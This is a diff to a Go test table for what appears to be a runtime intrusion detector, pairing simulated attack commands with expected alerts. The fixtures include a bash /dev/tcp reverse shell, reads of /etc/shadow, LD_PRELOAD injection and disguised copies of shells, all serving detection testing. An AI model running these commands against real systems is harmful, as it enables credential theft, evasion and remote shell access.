@@ -30,10 +30,14 @@ var attacks = []attack{
 	{"hardlink", "attack hardlink $T", opened("/tmp/hardlink.txt")},
 	{"renamed-file", "mv $T /tmp/innocent && attack open /tmp/innocent", opened("/tmp/innocent")},
 	{"magic-link", "attack magic-link $T", opened("/etc/secrets/magic-link")},
-	{"handle", "attack handle $T", opened("/etc/secrets/handle")},
+	// An overlay file system gives no handles.
+	{"handle", "cp $T /dev/shm/handle && attack handle /dev/shm/handle", func(a *alert.Alert) bool {
+		return opened("/dev/shm/handle")(a) && a.Deviation.Open.Flags == "O_RDONLY"
+	}},
 	{"race", "attack race $T", opened("/etc/secrets/race")},
 	{"uring", "attack uring $T", func(a *alert.Alert) bool { return opened("/etc/secrets/uring")(a) && a.Deviation.Open.IOUring }},
-	{"compat-open", "attack compat-open $T", opened("/etc/secrets/compat-open")},
+	// The path is not seen, the call is.
+	{"compat-open", "attack compat-open $T", func(a *alert.Alert) bool { return abi("386")(a) && a.Deviation.Syscall.Name == "open" }},
 	{"creat", "attack creat /etc/secrets/new", opened("/etc/secrets/new")},
 	{"shadow", "attack open /etc/shadow", opened("/etc/shadow")},
 	{"shadow-by-cat", "cat /etc/shadow-", opened("/etc/shadow-")},
@@ -53,9 +57,9 @@ var attacks = []attack{
 	{"replaced", "cp /usr/bin/nl /usr/local/bin/id && /usr/local/bin/id $T", executed("/usr/local/bin/id")},
 	{"copied-shell", "cp /bin/sh /tmp/ls && /tmp/ls -c :", executed("/tmp/ls")},
 	{"renamed-shell", "cp /bin/bash /tmp/sh.new && mv /tmp/sh.new /tmp/cat && /tmp/cat -c :", executed("/tmp/cat")},
-	{"symlinked-shell", "ln -s /bin/bash /tmp/ls2 && /tmp/ls2 -c :", executed("/usr/bin/bash")},
+	{"symlinked-shell", "ln -s /bin/sh /tmp/ls2 && /tmp/ls2 -c :", argument("/tmp/ls2")},
 	{"memfd", "attack memfd", inMemory},
-	{"memfd-proc", "attack memfd-proc", inMemory},
+	{"memfd-proc", "attack memfd-proc", executed("memfd:other")},
 	{"deleted-exec", "attack deleted-exec", func(a *alert.Alert) bool {
 		return a.Deviation.Exec != nil && (a.Deviation.Exec.File.Deleted || strings.HasPrefix(a.Deviation.Exec.Path, "/tmp/.gone"))
 	}},
@@ -67,7 +71,7 @@ var attacks = []attack{
 		return a.Deviation.Exec != nil && strings.Contains(a.Deviation.Exec.Path, "ld-linux")
 	}},
 	{"preload", "cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/evil.so; LD_PRELOAD=/tmp/evil.so cat /dev/null", opened("/tmp/evil.so")},
-	{"reverse-shell", "bash -c 'bash -i >/dev/tcp/127.0.0.1/9' || true", argument("-c")},
+	{"reverse-shell", "bash -c 'bash -i >/dev/tcp/127.0.0.1/9' || true", executed("/usr/bin/bash")},
 
 	// System calls that are not the workload's.
 	{"ptrace", "attack ptrace", called("ptrace")},
@@ -80,7 +84,7 @@ var attacks = []attack{
 	{"bpf", "attack bpf", called("bpf")},
 	{"keyctl", "attack keyctl", called("keyctl")},
 	{"userfaultfd", "attack userfaultfd", called("userfaultfd")},
-	{"compat", "attack compat", abi("386")},
+	{"compat", "attack compat", func(a *alert.Alert) bool { return abi("386")(a) && a.Deviation.Syscall.Name == "getpid" }},
 	{"x32", "attack x32", abi("x32")},
 	{"syscall-600", "attack syscall-600", func(a *alert.Alert) bool {
 		return a.Deviation.Syscall != nil && a.Deviation.Syscall.Number == 600
